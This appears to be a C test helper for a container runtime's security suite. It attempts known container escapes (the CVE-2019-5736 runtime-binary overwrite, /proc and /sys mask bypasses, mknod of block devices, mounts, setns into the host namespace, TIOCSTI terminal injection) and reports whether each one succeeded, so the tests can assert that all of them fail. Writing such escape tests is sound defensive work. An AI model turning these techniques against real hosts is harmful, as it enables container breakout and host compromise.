/* SPDX-License-Identifier: GPL-2.0-or-later */
/* attacker: runs inside a test container and tries the known runtime
 * escapes, printing what it managed as key=value lines. The tests assert
 * that every attempt failed. Only libc; linked -static.
 *
 *   attacker exe DEV INO SECS   CVE-2019-5736: for SECS seconds, scan
 *                               /proc/<pid>/exe for the runtime binary
 *                               (st_dev DEV, st_ino INO); hold O_PATH fds of
 *                               it and keep trying to reopen them (and the
 *                               link itself) for writing; on success write
 *                               "EVIL" at offset 0.
 *   attacker proc CANARY        /proc and /sys: masks, read-only paths,
 *                               remounts, a fresh procfs, host pids, the
 *                               host's root and mount namespace.
 *   attacker dev MAJ MIN        mknod a block device and open it.
 *   attacker caps               mount() and unshare(CLONE_NEWNS).
 *   attacker userns NEW SECRET  create NEW, open SECRET for reading.
 *   attacker tty PAYLOAD        for fds 0-2: isatty, TIOCSTI of each byte
 *                               of PAYLOAD (into the terminal's input, as
 *                               if typed), TIOCLINUX paste; and whether
 *                               /dev/tty (a controlling terminal) opens.
 *   attacker noop               exit 0. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

static const char *ename(int e)
{
        const char *n = strerrorname_np(e);
        return n ? n : "EUNKNOWN";
}

static const char *res(int r)
{
        return r >= 0 ? "ok" : ename(errno);
}

/* ---- CVE-2019-5736 ------------------------------------------------------- */

#define MAX_HELD 256

struct exe_attack {
        dev_t dev;
        ino_t ino;
        int held[MAX_HELD];
        int n_held;
        long scans, opened, written, wr_errors[4];
};

static void try_write_fd(struct exe_attack *a, int fd)
{
        char path[64];
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        int w = open(path, O_WRONLY | O_CLOEXEC);
        if (w < 0) {
                a->wr_errors[errno == ETXTBSY ? 0 : errno == EACCES ? 1 : errno == EPERM ? 2 : 3]++;
                return;
        }
        if (pwrite(w, "EVIL", 4, 0) == 4)
                a->written++;
        close(w);
}

static void scan_pid(struct exe_attack *a, const char *pid)
{
        char path[300];
        struct stat st;
        snprintf(path, sizeof(path), "/proc/%s/exe", pid);
        int fd = open(path, O_PATH | O_CLOEXEC);
        if (fd < 0)
                return;
        if (fstat(fd, &st) < 0 || st.st_dev != a->dev || st.st_ino != a->ino || a->n_held >= MAX_HELD) {
                close(fd);
                return;
        }
        a->opened++;
        a->held[a->n_held++] = fd;
        /* The direct way too: only works when the binary is not running. */
        int w = open(path, O_WRONLY | O_CLOEXEC);
        if (w >= 0) {
                if (pwrite(w, "EVIL", 4, 0) == 4)
                        a->written++;
                close(w);
        }
}

static void scan_proc(struct exe_attack *a)
{
        DIR *d = opendir("/proc");
        if (!d)
                return;
        struct dirent *e;
        while ((e = readdir(d)))
                if (e->d_name[0] >= '1' && e->d_name[0] <= '9' && atoi(e->d_name) != getpid())
                        scan_pid(a, e->d_name);
        closedir(d);
        a->scans++;
}

static int cmd_exe(char **argv)
{
        struct exe_attack a = {.dev = (dev_t)strtoull(argv[0], NULL, 10),
                               .ino = (ino_t)strtoull(argv[1], NULL, 10)};
        time_t end = time(NULL) + atoi(argv[2]);
        printf("ready=1\n");
        fflush(stdout);
        while (time(NULL) < end) {
                scan_proc(&a);
                for (int i = 0; i < a.n_held; i++)
                        try_write_fd(&a, a.held[i]);
        }
        printf("exe.scans=%ld\nexe.opened=%ld\nexe.written=%ld\n", a.scans, a.opened, a.written);
        printf("exe.etxtbsy=%ld\nexe.eacces=%ld\nexe.eperm=%ld\nexe.other=%ld\n", a.wr_errors[0],
               a.wr_errors[1], a.wr_errors[2], a.wr_errors[3]);
        return 0;
}

/* ---- /proc and /sys ------------------------------------------------------ */

/* Bytes readable from path, or the open/read error. */
static void try_read(const char *path)
{
        char buf[4096];
        int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
        if (fd < 0) {
                printf("read:%s=%s\n", path, ename(errno));
                return;
        }
        ssize_t n = read(fd, buf, sizeof(buf));
        int e = errno;
        close(fd);
        if (n < 0)
                printf("read:%s=%s\n", path, ename(e));
        else
                printf("read:%s=%zd\n", path, n);
}

static void try_ls(const char *path)
{
        DIR *d = opendir(path);
        if (!d) {
                printf("ls:%s=%s\n", path, ename(errno));
                return;
        }
        int n = 0;
        struct dirent *e;
        while ((e = readdir(d)))
                n += strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0;
        closedir(d);
        printf("ls:%s=%d\n", path, n);
}

/* Opens for writing without ever writing: a failing test must not poke
 * the host's sysrq or sysctls. */
static void try_open_w(const char *path)
{
        int fd = open(path, O_WRONLY | O_CLOEXEC | O_NONBLOCK);
        printf("openw:%s=%s\n", path, res(fd));
        if (fd >= 0)
                close(fd);
}

static void proc_masks(void)
{
        static const char *const files[] = {"/proc/kcore", "/proc/keys", "/proc/timer_list",
                                            "/proc/sched_debug", "/proc/latency_stats"};
        static const char *const dirs[] = {"/proc/acpi", "/proc/scsi", "/sys/firmware"};
        for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++)
                try_read(files[i]);
        for (size_t i = 0; i < sizeof(dirs) / sizeof(dirs[0]); i++)
                try_ls(dirs[i]);
        try_open_w("/proc/sysrq-trigger");
        try_open_w("/proc/sys/kernel/hostname");
        try_open_w("/proc/sys/vm/drop_caches");
        try_open_w("/sys/kernel/mm/transparent_hugepage/enabled");
        try_open_w("/sys/fs/cgroup/cgroup.procs");
}

static void proc_mounts(void)
{
        printf("remount:/proc/sys=%s\n", res(mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL)));
        printf("remount:/sys=%s\n", res(mount(NULL, "/sys", NULL, MS_REMOUNT, NULL)));
        printf("umount:/proc/kcore=%s\n", res(umount2("/proc/kcore", MNT_DETACH)));
        printf("umount:/proc/sys=%s\n", res(umount2("/proc/sys", MNT_DETACH)));
        printf("mount:proc=%s\n", res(mount("proc", "/proc", "proc", 0, NULL)));
        printf("mount:proc2=%s\n", res(mount("proc", "/mnt/extra", "proc", 0, NULL)));
        int fs = (int)syscall(SYS_fsopen, "proc", 0);
        printf("fsopen:proc=%s\n", res(fs));
        if (fs >= 0)
                close(fs);
}

static void proc_host(const char *canary)
{
        char link[PATH_MAX] = "", path[PATH_MAX + 32];
        struct stat st;
        printf("pid=%d\n", (int)getpid());
        ssize_t n = readlink("/proc/1/exe", link, sizeof(link) - 1);
        link[n < 0 ? 0 : n] = '\0';
        printf("pid1.exe=%s\n", n < 0 ? ename(errno) : link);
        n = readlink("/proc/1/root", link, sizeof(link) - 1);
        link[n < 0 ? 0 : n] = '\0';
        printf("pid1.root=%s\n", n < 0 ? ename(errno) : link);
        snprintf(path, sizeof(path), "/proc/1/root%s", canary);
        printf("canary.via_pid1=%s\n", res(stat(path, &st)));
        printf("canary.direct=%s\n", res(stat(canary, &st)));
        int pids = 0;
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d)))
                pids += e->d_name[0] >= '1' && e->d_name[0] <= '9';
        if (d)
                closedir(d);
        printf("pids=%d\n", pids);
        printf("mntns=%llu\n", stat("/proc/1/ns/mnt", &st) == 0 ? (unsigned long long)st.st_ino : 0ULL);
        int fd = open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC);
        printf("setns:mnt=%s\n", fd < 0 ? ename(errno) : res(setns(fd, CLONE_NEWNS)));
        if (fd >= 0)
                close(fd);
}

static int cmd_proc(char **argv)
{
        proc_masks();
        proc_mounts();
        proc_host(argv[0]);
        return 0;
}

/* ---- devices, capabilities, user namespace ------------------------------- */

static int cmd_dev(char **argv)
{
        dev_t dev = makedev((unsigned)atoi(argv[0]), (unsigned)atoi(argv[1]));
        printf("mknod=%s\n", res(mknod("/tmp/blk", S_IFBLK | 0600, dev)));
        int fd = open("/tmp/blk", O_RDONLY | O_CLOEXEC);
        printf("open=%s\n", res(fd));
        if (fd >= 0) {
                char buf[512];
                printf("readblk=%s\n", res((int)read(fd, buf, sizeof(buf))));
                close(fd);
        }
        return 0;
}

static int cmd_caps(void)
{
        printf("mount=%s\n", res(mount("tmpfs", "/mnt/tmpfs", "tmpfs", 0, NULL)));
        printf("bind=%s\n", res(mount("/", "/mnt/extra", NULL, MS_BIND, NULL)));
        printf("unshare_ns=%s\n", res(unshare(CLONE_NEWNS)));
        return 0;
}

static int cmd_userns(char **argv)
{
        printf("uid=%d\n", (int)getuid());
        int fd = open(argv[0], O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
        printf("create=%s\n", res(fd));
        if (fd >= 0)
                close(fd);
        fd = open(argv[1], O_RDONLY | O_CLOEXEC);
        printf("secret=%s\n", res(fd));
        if (fd >= 0)
                close(fd);
        return 0;
}

/* ---- terminal injection ------------------------------------------------ */

static int cmd_tty(char **argv)
{
        for (int fd = 0; fd < 3; fd++) {
                printf("fd%d.isatty=%d\n", fd, isatty(fd));
                int r = 0;
                for (const char *c = argv[0]; *c && r >= 0; c++)
                        r = ioctl(fd, TIOCSTI, c);
                printf("fd%d.tiocsti=%s\n", fd, res(r));
                char paste = 3; /* TIOCL_PASTESEL: the selection into the input */
                printf("fd%d.tioclinux=%s\n", fd, res(ioctl(fd, TIOCLINUX, &paste)));
        }
        int tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
        printf("ctty=%s\n", res(tty));
        fflush(stdout);
        return 0;
}

int main(int argc, char **argv)
{
        static const struct {
                const char *name;
                int nargs;
        } cmds[] = {{"exe", 3}, {"proc", 1}, {"dev", 2}, {"caps", 0}, {"userns", 2}, {"noop", 0}, {"tty", 1}};
        for (size_t i = 0; argc > 1 && i < sizeof(cmds) / sizeof(cmds[0]); i++) {
                if (strcmp(argv[1], cmds[i].name) != 0)
                        continue;
                if (argc - 2 != cmds[i].nargs)
                        break;
                int r = 0;
                switch (i) {
                case 0:
                        r = cmd_exe(argv + 2);
                        break;
                case 1:
                        r = cmd_proc(argv + 2);
                        break;
                case 2:
                        r = cmd_dev(argv + 2);
                        break;
                case 3:
                        r = cmd_caps();
                        break;
                case 4:
                        r = cmd_userns(argv + 2);
                        break;
                case 6:
                        r = cmd_tty(argv + 2);
                        break;
                }
                fflush(stdout);
                return r;
        }
        fprintf(stderr, "usage: attacker exe DEV INO SECS | proc CANARY | dev MAJ MIN | caps | userns NEW "
                        "SECRET | noop | tty PAYLOAD\n");
        return 2;
}
